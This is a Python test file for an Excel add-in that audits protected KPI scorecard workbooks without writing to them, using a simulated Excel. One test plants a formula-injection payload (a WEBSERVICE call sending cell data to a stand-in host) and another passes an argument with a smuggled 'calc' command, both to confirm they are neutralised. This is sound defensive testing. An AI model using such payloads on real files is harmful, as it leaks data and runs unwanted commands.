"""The Score & Audit button on the desktop path, against a double of Excel that enforces what
Excel enforces (xlkpi/excel/double.py): protected sheets refuse writes and formats, a
protected structure refuses new sheets, wrong passwords fail, cells read as COM returns them.

Cards are generated, recalculated by LibreOffice (so they hold cached values as Excel would
have stored them) and opened in the double; the click must audit them without a single write,
open a new report workbook, and end every failure in a Thai/English message box.
"""
from __future__ import annotations

import hashlib
import sys
from pathlib import Path

import pytest

from xlkpi.addin import hex_text
from xlkpi.engine import score_agreement
from xlkpi.excel import click, double
from xlkpi.excel.report import REPORT_SHEET
from xlkpi.workbook.layout import KIND_TEMPLATE, Col, round_sheet, sar_layout
from xlkpi.workbook.sar import write_sar

from test_excel import _agreement, _threshold_ids, edit_cached_value  # noqa: E402

pytestmark = pytest.mark.libreoffice  # the cards are recalculated by LibreOffice

SAR12 = round_sheet(12)
RUNPYTHON_ARGV = ["-c", "--from_xl=1", r"--app=C:\Program Files\Microsoft Office\root\Office16\Microsoft Excel",
                  "--hwnd=4242"]


def _sha(path: Path) -> str:
    return hashlib.sha256(Path(path).read_bytes()).hexdigest()


@pytest.fixture(scope="module")
def cards(tmp_path_factory):
    """Recalculated files: a clean SAR Card, a tampered one, a KPI Template, a non-xlkpi book."""
    from openpyxl import Workbook

    from xlkpi.recalc import libreoffice_recalc
    from xlkpi.workbook.template import write_template

    folder = tmp_path_factory.mktemp("cards")
    agreement = _agreement()
    clean = write_sar(agreement, folder / "clean.xlsx")
    template = write_template(agreement, folder / "template.xlsx")
    done = libreoffice_recalc([clean, template], folder / "recalc")
    for generated in (clean, template):
        _relock_structure(done[generated], generated)
    tampered = folder / "tampered.xlsx"
    tampered.write_bytes(done[clean].read_bytes())
    tampered_id = _threshold_ids(agreement, 1)[0]
    score_cell = sar_layout(agreement).indicator_row(tampered_id).cell(Col.SCORE)
    edit_cached_value(tampered, SAR12, score_cell, 4.9876)
    other = Workbook()
    other.active["A1"] = "งบประมาณ"
    other.save(folder / "other.xlsx")
    return {"agreement": agreement, "clean": done[clean], "template": done[template], "tampered": tampered,
            "score_cell": score_cell, "other": folder / "other.xlsx"}


def _relock_structure(saved: Path, generated: Path) -> None:
    """LibreOffice saves an empty <workbookProtection/>: put the generated one back (as Excel keeps it)."""
    import re
    import zipfile

    with zipfile.ZipFile(generated) as z:
        lock = re.search(rb"<workbookProtection[^>]*/>", z.read("xl/workbook.xml")).group(0)
    with zipfile.ZipFile(saved) as z:
        parts = {n: z.read(n) for n in z.namelist()}
    parts["xl/workbook.xml"] = re.sub(rb"<workbookProtection[^>]*/>", lock, parts["xl/workbook.xml"], count=1)
    with zipfile.ZipFile(saved, "w", zipfile.ZIP_DEFLATED) as z:
        for n, data in parts.items():
            z.writestr(n, data)


def _excel_with(*paths):
    app = double.App()
    books = [app.open(double.snapshot_of(p)) for p in paths]
    return app, books


def _click(app, name, monkeypatch, argv=RUNPYTHON_ARGV):
    """xlkpi.main as the add-in's VBA starts it: the name as hex, RunPython's argv, this Excel."""
    import xlkpi

    seen = []

    def connect(args):
        seen.append(list(args))
        return app

    monkeypatch.setattr(click, "connect", connect)
    monkeypatch.setattr(sys, "argv", list(argv))
    result = xlkpi.main(hex_text(name) if name is not None else None)
    assert seen == [list(argv)]
    return result


def _report(app):
    reports = [b for b in app.books if not b.fullname]
    assert len(reports) == 1, "exactly one new report workbook"
    sheet = reports[0].sheets[REPORT_SHEET]
    rows = {}
    for (r, c), cell in sheet.cells.items():
        rows.setdefault(r, {})[c] = cell.get("formula") or cell.get("value")
    return [[rows[r].get(c) for c in range(1, 7)] for r in sorted(rows)]


def _findings(rows):
    start = next(i for i, r in enumerate(rows) if r[0] == "รหัส (code)")
    return rows[start + 1:]


def test_clean_card_audited_without_a_write_report_beside_it(cards, monkeypatch):
    before = _sha(cards["clean"])
    app, (book,) = _excel_with(cards["clean"])
    result = _click(app, book.name, monkeypatch)
    assert result is not None and result.errors == 0, [str(f) for f in result.findings if f.is_error]
    assert book.writes == []  # not a value, format, sheet or Unprotect
    assert _sha(cards["clean"]) == before
    # desktop Excel shows protection: the generated card's is on, so nothing is "removed"
    assert not [f for f in result.findings if f.code == "WB-PROTECTION-REMOVED"]
    assert result.total_recomputed == score_agreement(cards["agreement"], 12).total
    rows = _report(app)
    assert rows[0][0].endswith(book.name)
    assert [r for r in _findings(rows) if r[1] == "ข้อผิดพลาด (error)"] == []
    assert [a["mode"] for a in app.alerts] == ["info"]
    assert "Checked: 0 errors" in app.alerts[0]["prompt"]
    texts = [s for s in app.status_history if s]
    assert any("reading the workbook" in s for s in texts) and any("auditing" in s for s in texts)
    assert app.status_history[-1] is False  # the status bar is given back to Excel


def test_tampered_card_reported_with_links_into_the_card(cards, monkeypatch):
    app, (book,) = _excel_with(cards["tampered"])
    result = _click(app, book.name, monkeypatch)
    assert book.writes == []
    differs = [f for f in result.findings if f.code == "SAR-STORED-DIFFERS" and f.sheet == SAR12]
    assert [f.cell for f in differs] == [cards["score_cell"]]
    row = next(r for r in _findings(_report(app)) if r[0] == "SAR-STORED-DIFFERS" and r[2] == SAR12)
    cell = cards["score_cell"]
    assert row[3] == f"=HYPERLINK(\"[{cards['tampered']}]'{SAR12}'!{cell}\",\"{cell}\")"
    assert app.alerts[-1]["mode"] == "critical"


def test_formulas_are_read_on_the_desktop(cards, monkeypatch):
    """Desktop Excel gives formulas (the remote engine does not): a score formula replaced by a
    constant and another edited are both found."""
    app, (book,) = _excel_with(cards["clean"])
    layout = sar_layout(cards["agreement"])
    first, second = _threshold_ids(cards["agreement"], 2)
    replaced = double._cell(layout.indicator_row(first).cell(Col.SCORE))
    edited = double._cell(layout.indicator_row(second).cell(Col.SCORE))
    cells = book.sheets[SAR12].cells
    cells[replaced].update(formula=None, value=5.0)
    cells[edited]["formula"] = "=5"
    result = _click(app, book.name, monkeypatch)
    codes = {(f.code, f.cell) for f in result.findings if f.sheet == SAR12}
    assert ("WB-FORMULA-REPLACED", layout.indicator_row(first).cell(Col.SCORE)) in codes
    assert ("WB-FORMULA-CHANGED", layout.indicator_row(second).cell(Col.SCORE)) in codes
    assert book.writes == []


def test_totals_in_the_report_are_the_stored_and_the_engines(cards, monkeypatch):
    app, (book,) = _excel_with(cards["clean"])
    _click(app, book.name, monkeypatch)
    rows = _report(app)
    start = next(i for i, r in enumerate(rows) if r[0] == "คะแนนรวม (totals)")
    totals = [r for r in rows[start + 1:start + 16] if r[0] and r[1] in (6, 9, 12)]
    expected = score_agreement(cards["agreement"], 12)
    department = next(r for r in totals if r[1] == 12 and r[0].startswith("รวม"))
    assert department[3] == expected.total
    assert abs(department[2] - expected.total) < 1e-9 and department[4] == "ตรงกัน (same)"


def test_text_from_the_card_never_becomes_a_formula_in_the_report(cards, monkeypatch):
    from xlkpi.workbook.layout import total_name

    app, (book,) = _excel_with(cards["clean"])
    names = {n.name: n.refers_to for n in book.names}
    sheet, cell = names[total_name(12)].lstrip("=").replace("'", "").replace("$", "").split("!")
    r, c = double._cell(cell)
    attack = '=WEBSERVICE("http://example.invalid/?"&A1)'
    book.sheets[sheet].cells[(r, c)]["value"] = attack  # a stored total turned into text
    _click(app, book.name, monkeypatch)
    report = next(b for b in app.books if not b.fullname).sheets[REPORT_SHEET]
    held = [v for v in report.cells.values() if v.get("value") == attack]
    assert held, "the text is in the report as text"
    formulas = [v["formula"] for v in report.cells.values() if v.get("formula")]
    assert formulas and all(f.startswith('=HYPERLINK("[') for f in formulas)


def test_kpi_template(cards, monkeypatch):
    app, (book,) = _excel_with(cards["template"])
    result = _click(app, book.name, monkeypatch)
    assert result is not None and result.kind == KIND_TEMPLATE
    assert book.writes == []
    rows = _report(app)
    assert rows[1][:2] == ["ส่วนราชการ (department)", cards["agreement"].department]
    assert not any(r[0] == "คะแนนรวม (totals)" for r in rows)  # a template has no scores


def test_protection_removed_is_seen_on_the_desktop(cards, monkeypatch):
    app, (book,) = _excel_with(cards["clean"])
    book.sheets[SAR12].protected = False  # someone unprotected the sheet (knowing the password)
    result = _click(app, book.name, monkeypatch)
    assert [f.sheet for f in result.findings if f.code == "WB-PROTECTION-REMOVED"] == [SAR12]


def test_wrong_password_changes_nothing(cards, monkeypatch):
    """The click needs no password (it never unprotects); a wrong one set for it is harmless."""
    monkeypatch.setenv("XLKPI_PASSWORD", "not-the-ministry-password")
    app, (book,) = _excel_with(cards["clean"])
    result = _click(app, book.name, monkeypatch)
    assert result.errors == 0 and book.writes == []


def test_the_double_refuses_what_excel_refuses(cards):
    app, (book,) = _excel_with(cards["clean"])
    sheet = book.sheets[SAR12]
    with pytest.raises(double.ComError):
        sheet.api.Unprotect("wrong")
    assert sheet.api.ProtectContents
    with pytest.raises(double.ComError):
        sheet["A1"].value = "x"  # a locked heading
    with pytest.raises(double.ComError):
        sheet["A1"].color = "#F8CBAD"
    with pytest.raises(double.ComError):
        book.sheets.add("ผลการตรวจ")
    with pytest.raises(double.ComError):
        book.api.Unprotect("wrong")
    sheet.api.Unprotect("xlkpi")  # the documented default password opens it
    assert not sheet.api.ProtectContents
    values = sheet.used_range.options(ndim=2).value
    numbers = [v for row in values for v in row if isinstance(v, (int, float)) and not isinstance(v, bool)]
    assert numbers and all(isinstance(v, float) for v in numbers)  # COM: every number a float


def test_no_workbook(monkeypatch, capsys):
    app = double.App()
    result = _click(app, None, monkeypatch)
    assert result is None
    assert "no workbook to audit" in app.alerts[-1]["prompt"] and "ไม่มีสมุดงาน" in app.alerts[-1]["prompt"]


def test_a_name_that_is_not_open(cards, monkeypatch):
    app, _ = _excel_with(cards["clean"])
    assert _click(app, "อื่น.xlsx", monkeypatch) is None
    assert "is not open in this Excel" in app.alerts[-1]["prompt"]


def test_not_an_xlkpi_workbook(cards, monkeypatch):
    app, (book,) = _excel_with(cards["other"])
    assert _click(app, book.name, monkeypatch) is None
    assert book.writes == [] and len(app.books) == 1  # no report book either
    assert "not a workbook xlkpi generated" in app.alerts[-1]["prompt"]


def test_unexpected_error_is_a_message_not_a_traceback(cards, monkeypatch, tmp_path):
    monkeypatch.setattr("tempfile.tempdir", str(tmp_path))
    app, (book,) = _excel_with(cards["clean"])

    def broken(*_a, **_k):
        raise RuntimeError("boom")

    monkeypatch.setattr(click, "read_book", broken)
    assert _click(app, book.name, monkeypatch) is None
    prompt = app.alerts[-1]["prompt"]
    assert "Unexpected error (RuntimeError: boom)" in prompt and "Traceback" not in prompt
    assert "RuntimeError: boom" in (tmp_path / click.LOG_NAME).read_text(encoding="utf-8")


def test_runpython_wb_argument_names_the_book_too(cards, monkeypatch):
    app, (book,) = _excel_with(cards["clean"])
    argv = RUNPYTHON_ARGV[:1] + [f"--wb={book.name}"] + RUNPYTHON_ARGV[1:]
    monkeypatch.setattr(click, "connect", lambda args: app)
    monkeypatch.setattr(sys, "argv", argv)
    import xlkpi

    assert xlkpi.main() is not None and book.writes == []


def test_main_in_a_fresh_process_with_runpythons_command_line(cards, tmp_path):
    """The exact command line the add-in runs, with the double standing in for Excel."""
    from xlkpi.bench_click import run_click

    out = run_click(double.snapshot_of(cards["tampered"]), tmp_path)
    assert out["writes"] == [] and out["report_books"] == 1
    assert out["errors"] >= 1 and "Checked:" in out["alerts"][0]
    assert out["argv"][1:] == ["--from_xl=1", out["argv"][2], "--hwnd=4242"]


def test_the_report_opens_in_libreoffice(cards, monkeypatch, tmp_path):
    from xlkpi.recalc import cached_values, libreoffice_recalc

    app, (book,) = _excel_with(cards["tampered"])
    _click(app, book.name, monkeypatch)
    report = next(b for b in app.books if not b.fullname)
    path = tmp_path / "report.xlsx"
    double.to_openpyxl(report).save(path)
    saved = libreoffice_recalc([path], tmp_path / "lo")[path]
    values = cached_values(saved)
    assert values[(REPORT_SHEET, "A1")].startswith("ผลการตรวจสมุดงาน")
    # the HYPERLINK shows its cell reference as text
    assert cards["score_cell"] in {v for (s, c), v in values.items() if c.startswith("D")}


def test_excel_is_found_by_the_window_runpython_names(monkeypatch):
    from xlkpi.excel import book
    from xlkpi.excel.book import ClickError

    monkeypatch.setattr(sys, "platform", "win32")
    with pytest.raises(ClickError, match="--hwnd"):
        book.desktop_app(["-c", "--from_xl=1"])
    with pytest.raises(ClickError, match="--hwnd"):
        book.desktop_app(["-c", "--hwnd=12;calc"])
    monkeypatch.setattr(sys, "platform", "linux")
    with pytest.raises(ClickError, match="Windows and macOS"):
        book.desktop_app(RUNPYTHON_ARGV)


@pytest.mark.parametrize("given", ["00", "zz41", "0041004", "\u0000"])
def test_a_garbled_workbook_name_is_a_message(given, monkeypatch):
    app = double.App()
    monkeypatch.setattr(click, "connect", lambda args: app)
    import xlkpi

    assert xlkpi.main(given) is None
    assert app.alerts and "Traceback" not in app.alerts[-1]["prompt"]
